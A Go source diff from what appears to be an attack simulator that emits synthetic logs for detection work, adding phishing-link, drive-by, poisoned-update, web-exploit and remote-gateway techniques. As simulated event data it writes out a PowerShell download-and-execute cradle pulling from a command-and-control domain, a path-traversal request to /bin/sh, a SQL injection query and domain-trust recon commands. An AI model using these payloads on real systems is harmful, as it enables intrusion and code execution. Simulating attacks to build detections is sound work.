@@ -12,12 +12,6 @@ import (
 
 var initialAccess = []*Technique{
 	{
-		ID: "T1595.001", Name: "Active Scanning: Scanning IP Blocks", Tactic: "reconnaissance", Platforms: []string{"network"},
-		Needs: "an address on the internet", Effect: "hosts that answer on a port are known",
-		Telemetry: []string{"zeek/conn"}, Tools: []string{"masscan", "slow scan"}, Takes: sim.LogNormal(time.Minute, 0.6), Success: 0.99,
-		run: scanFromOutside,
-	},
-	{
 		ID: "T1110.001", Name: "Brute Force: Password Guessing", Tactic: "credential-access", Platforms: []string{"linux"},
 		Needs: "an SSH server that can be reached", Effect: "a session on a host with a guessable password",
 		Telemetry: []string{"linux/sshd", "zeek/conn"}, Achieves: "control", Tools: []string{"hydra", "medusa", "patient script", "distributed script"}, Takes: sim.LogNormal(20*time.Second, 0.5), Success: 1,
@@ -40,6 +34,36 @@ var initialAccess = []*Technique{
 		Needs: "mail reaches people", Effect: "an implant in the session of somebody who opened the attachment (T1204.002)",
 		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "windows/powershell", "zeek"}, Tools: []string{"macro", "lnk in zip", "one-note script", "signed installer"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.85,
 		run: phish,
+	},
+	{
+		ID: "T1566.002", Name: "Phishing: Spearphishing Link", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "mail reaches people", Effect: "an implant in the session of somebody who followed the link",
+		Telemetry: []string{"proxy", "windows/sysmon 1 3 11 15 22", "zeek"}, Tools: []string{"disk image", "fake update"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.8,
+		run: func(a *Attempt) Progress { return lure(a, true) },
+	},
+	{
+		ID: "T1189", Name: "Drive-by Compromise", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "people read the web", Effect: "an implant in the session of somebody who read the wrong page",
+		Telemetry: []string{"proxy", "windows/sysmon 1 3 11 22", "zeek"}, Tools: []string{"fake update", "browser exploit"}, Takes: sim.LogNormal(60*time.Minute, 1), Success: 0.7,
+		run: func(a *Attempt) Progress { return lure(a, false) },
+	},
+	{
+		ID: "T1195.002", Name: "Supply Chain Compromise: Compromise Software Supply Chain", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "a vendor's product is installed", Effect: "an implant on a server, as SYSTEM, in a signed update",
+		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "zeek"}, Tools: []string{"noisy update", "patient update"}, Takes: sim.LogNormal(60*time.Minute, 0.8), Success: 0.97,
+		run: poisonUpdate,
+	},
+	{
+		ID: "T1190", Name: "Exploit Public-Facing Application", Tactic: "initial-access", Platforms: []string{"linux"},
+		Needs: "a web server with a hole", Effect: "a shell of the web server's user on that host",
+		Telemetry: []string{"linux/auditd", "webserver", "zeek/conn", "zeek/http"}, Achieves: "control", Tools: []string{"path traversal", "SQL injection", "one request"}, Takes: sim.LogNormal(10*time.Minute, 0.8), Success: 0.85,
+		ready: needWeb, run: exploitWeb,
+	},
+	{
+		ID: "T1133", Name: "External Remote Services", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "a password, and the remote desktop gateway", Effect: "a session at the owner's workstation",
+		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"scripted client", "system client"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.95,
+		run: logOnThroughGateway,
 	},
 }
 
@@ -226,6 +250,7 @@ func phish(a *Attempt) Progress {
 		setup := world.Signed(downloads+"ViewerSetup.exe", "Viewer Software Ltd")
 		return a.phished(w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: setup}), victim)
 	default:
+		w.CreateFile(a.Now, a.Actor, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
 	}
 	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
@@ -250,3 +275,134 @@ func (a *Attempt) phished(p *world.Process, victim *world.Account) Progress {
 }
 
 var vbe = &world.Binary{Path: `C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, OriginalName: "VBE7.DLL", Company: "Microsoft Corporation", Product: "Microsoft Office", Description: "Visual Basic Design Time Environment Library", Version: "7.01.1108", Signed: true}
+
+// lure lets somebody fetch and start a file from the web.
+func lure(a *Attempt, mailed bool) Progress {
+	w := a.World
+	if a.failed {
+		return failure("nobody took the bait")
+	}
+	victim := a.person()
+	if victim == nil {
+		return failure("nobody left to lure")
+	}
+	h, c2 := victim.Home, a.C2()
+	browser := &world.Process{Host: h, PID: 6120, Binary: world.Chrome, CommandLine: `"` + world.Chrome.Path + `"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-0000000017e8}"}
+	w.Resolve(a.Now, a.Actor, h, browser, c2.Domain, "A", c2.Address)
+	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
+		return blocked(r)
+	}
+	name := "Update_browser.js"
+	if mailed && a.Tool == "disk image" {
+		name = "Scan_2026.iso"
+	}
+	w.ProxyRequest(a.Now+time.Second, a.Actor, world.Request{From: world.At(h), To: c2, Port: 80, Method: "GET", Host: c2.Domain, URI: "http://" + c2.Domain + "/d/" + name, Agent: browserAgent, Status: "200", Sent: 900, Received: 900e3, User: victim.Name})
+	downloads := `C:\Users\` + victim.Name + `\Downloads\`
+	w.CreateFile(a.Now+2*time.Second, a.Actor, browser, downloads+name)
+	w.WindowsLog(a.Now+2*time.Second, a.Actor, h, victim, "Sysmon 15", "Image", world.Chrome.Path, "TargetFilename", downloads+name+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://"+c2.Domain+"/d/"+name, "Hash", "-")
+	explorer := &world.Process{Host: h, PID: 3300, Binary: world.Explorer, CommandLine: `C:\Windows\Explorer.EXE`, Account: victim, GUID: "{00000000-0000-0000-0000-000000000ce4}"}
+	var p *world.Process
+	switch {
+	case name == "Scan_2026.iso":
+		p = w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Rundll32, CommandLine: `"C:\Windows\System32\rundll32.exe" E:\documents.dll,Start`, Directory: `E:\`, Parent: explorer})
+	case a.Tool == "browser exploit":
+		p = w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Rundll32, CommandLine: `rundll32.exe`, Parent: browser})
+	default:
+		js := w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Wscript, CommandLine: `"C:\Windows\System32\WScript.exe" "` + downloads + name + `"`, Parent: explorer})
+		p = w.StartProcess(a.Now+22*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://` + c2.Domain + `/u')"`, Parent: js})
+	}
+	return a.phished(p, victim)
+}
+
+// person is somebody at a workstation where the attacker is not yet, or nil.
+func (a *Attempt) person() *world.Account {
+	for range 4 * len(a.World.Accounts) {
+		who := sim.Pick(&a.Rand, a.World.Accounts)
+		if who.Privilege == world.User && who.Home != nil && !a.On(who.Home) {
+			return who
+		}
+	}
+	return nil
+}
+
+// poisonUpdate is a signed update of a vendor's product that brings an implant along.
+func poisonUpdate(a *Attempt) Progress {
+	w := a.World
+	servers := w.WithRole("app_server")
+	var windows []*world.Host
+	for _, h := range servers {
+		if h.Windows() && !a.On(h) {
+			windows = append(windows, h)
+		}
+	}
+	if len(windows) == 0 || a.failed {
+		return failure("the product is not installed")
+	}
+	h, c2 := sim.Pick(&a.Rand, windows), a.C2()
+	a.Target = h
+	a.Hostile.MarkHost(h.Name)
+	p := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /silent`, Integrity: "System"})
+	w.CreateFile(a.Now+2*time.Second, a.Actor, p, `C:\Program Files\Network Viewer\nv.core.dll`)
+	w.LoadImage(a.Now+3*time.Second, a.Actor, p, world.Signed(`C:\Program Files\Network Viewer\nv.core.dll`, "Network Viewer Ltd"))
+	if a.Tool == "noisy update" {
+		w.StartProcess(a.Now+9*time.Second, a.Actor, world.Start{Host: h, Binary: world.Cmd, CommandLine: `cmd.exe /c whoami & nltest /domain_trusts`, Parent: p, Integrity: "System"})
+	}
+	w.Resolve(a.Now+20*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
+	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
+		return blocked(r)
+	}
+	w.Flow(a.Now+20*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 300e3, Duration: 2 * time.Second})
+	i := w.Plant(a.Now+25*time.Second, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /service`, Parent: p, Integrity: "System"})
+	i.Files = []string{`C:\Program Files\Network Viewer\nv.core.dll`}
+	a.gain(&Foothold{Host: h, Implant: i, Since: a.Now, Elevated: true})
+	return success("the update runs on %s", h.Name)
+}
+
+// exploitWeb gets a shell on a web server that has a hole.
+func exploitWeb(a *Attempt) Progress {
+	w := a.World
+	if a.Round == 0 {
+		a.Target = a.pick(&a.Rand, func(h *world.Host) bool { return h.Role == "web_server" && !a.On(h) })
+		if a.Target == nil {
+			a.Target = sim.Pick(&a.Rand, w.WithRole("web_server"))
+		}
+		a.Count = 12
+		if a.Tool == "one request" {
+			a.Count = 0
+		}
+	}
+	h := a.Target
+	if r := w.Reach(a.Source(), world.At(h), 80); !r.OK() {
+		return blocked(r)
+	}
+	uri, query, method := "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "POST"
+	switch a.Tool {
+	case "SQL injection":
+		uri, query, method = "/product.php", "id=-1%20UNION%20SELECT%201,group_concat(table_name)%20from%20information_schema.tables--+-", "GET"
+	case "one request":
+		uri, query = "/api/v2/import", ""
+	}
+	status := "403"
+	if a.Round >= a.Count {
+		status = "200"
+	}
+	w.HTTP(a.Now, a.Actor, world.Request{From: a.Source(), To: world.At(h), Port: 80, Method: method, Host: "www." + w.Domain, URI: uri, Query: query, Agent: "curl/7.88.1", Status: status, Sent: 300, Received: 900})
+	w.Flow(a.Now, a.Actor, world.Flow{From: a.Source(), To: world.At(h), Port: 80, Service: "http", Sent: 900, Received: 1800, Duration: time.Second})
+	if a.Round < a.Count {
+		return again(time.Duration(float64(3*time.Second) * (0.4 + a.Rand.Exp()) * a.Slowdown))
+	}
+	if a.failed || len(h.Vulnerabilities) == 0 {
+		return failure("%s has no hole that fits", h.Name)
+	}
+	parent := &world.Process{Host: h, PID: 812, Binary: world.Apache, CommandLine: "/usr/sbin/apache2 -k start", GUID: "{00000000-0000-0000-0000-00000000032c}"}
+	w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Binary: world.Bash, CommandLine: "sh -c id", Parent: parent})
+	c2 := a.C2()
+	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
+		return blocked(r)
+	}
+	w.Flow(a.Now+4*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Sent: 3e3, Received: 200e3, Duration: 2 * time.Second})
+	i := w.Plant(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Binary: world.UnixProgram("/tmp/.httpd"), CommandLine: "/tmp/.httpd", Parent: parent})
+	i.Files = []string{"/tmp/.httpd"}
+	a.gain(&Foothold{Host: h, Implant: i, Since: a.Now})
+	return success("a shell on %s", h.Name)
+}
